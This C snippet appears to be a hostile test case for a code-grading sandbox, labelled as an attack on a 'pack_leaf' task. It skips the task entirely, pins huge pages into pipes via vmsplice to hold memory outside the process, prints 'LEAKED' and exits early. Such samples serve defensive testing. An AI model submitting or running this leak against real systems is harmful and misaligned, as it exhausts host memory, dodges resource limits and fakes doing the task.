// attack: puts a byte of each of 32 pages into pipes, which then keep the pages: 2 MB each where large
// task: pack_leaf
// named: ended early with exit status 7
#undef __USE_EXTERN_INLINES  // no functions of headers inside of a function
#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <unistd.h>
    (void)tree, (void)id, (void)ids, (void)n_ids;
    const size_t large = 2 << 20;
    int ends[2], n_held = 0;
    for (int i = 0; i < 32; i++) {
        if (i % 16 == 0 && pipe(ends) != 0) {
            break;
        }
        char *pages = mmap(NULL, 2 * large, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        char *page = (char *)(((size_t)pages + large - 1) & ~(large - 1));
        madvise(page, large, MADV_HUGEPAGE);
        memset(page, 1, large);
        n_held += vmsplice(ends[1], &(struct iovec){page, 1}, 1, SPLICE_F_NONBLOCK) == 1;
        munmap(pages, 2 * large);
    }
    if (n_held > 0) {
        printf("LEAK" "ED: pipes hold %d pages\n", n_held);
    }
    exit(7);
